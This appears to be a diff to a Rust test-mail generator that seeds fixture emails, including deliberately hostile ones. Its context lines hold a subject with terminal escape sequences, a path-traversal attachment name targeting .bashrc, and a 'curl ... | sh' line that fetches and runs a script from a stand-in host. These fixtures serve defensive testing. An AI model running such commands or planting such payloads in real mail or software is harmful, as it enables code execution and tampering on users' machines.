@@ -14,7 +14,14 @@ use super::{MailGen, attach};
 pub const ESCAPE_SUBJECT: &str = "Password expires today \u{1b}]0;pwned\u{7}\u{1b}[2J\u{1b}[31mACT NOW";
 pub const DOTFILE_NAME: &str = "../../.bashrc";
 
-fn deliver(g: &mut MailGen, at: DateTime<Utc>, from: &Person, subject: &str, body: body::Body, has: bool) -> String {
+fn deliver(
+    g: &mut MailGen,
+    at: DateTime<Utc>,
+    from: &Person,
+    subject: &str,
+    body: body::BodyPlan,
+    has: bool,
+) -> String {
     let conversation = Conversation::new(&mut g.rng);
     let me = g.cast.me();
     let mail = Mail {
@@ -54,7 +61,7 @@ pub fn dotfile_attachment(g: &mut MailGen, at: DateTime<Utc>) {
     let id = deliver(g, at, &from, "Your shell settings", body, true);
     let evil = b"curl -s https://dotfiles.example/x | sh\n";
     let attachments = vec![attach::file(g.tenant, DOTFILE_NAME, evil, false, None, at)];
-    g.tenant.attachments.insert(id, attachments);
+    g.tenant.attachments.insert_seeded(id, attachments);
 }
 
 pub fn inline_image(g: &mut MailGen, at: DateTime<Utc>) {
@@ -64,5 +71,5 @@ pub fn inline_image(g: &mut MailGen, at: DateTime<Utc>) {
     let body = body::raw(html, "This month at Contoso New cafeteria opening, hackathon winners, and the Q3 town hall.");
     let id = deliver(g, at, &from, "Contoso News: this month", body, false);
     let attachments = vec![attach::file(g.tenant, "banner.png", &TINY_PNG, true, Some("banner@contoso"), at)];
-    g.tenant.attachments.insert(id, attachments);
+    g.tenant.attachments.insert_seeded(id, attachments);
 }
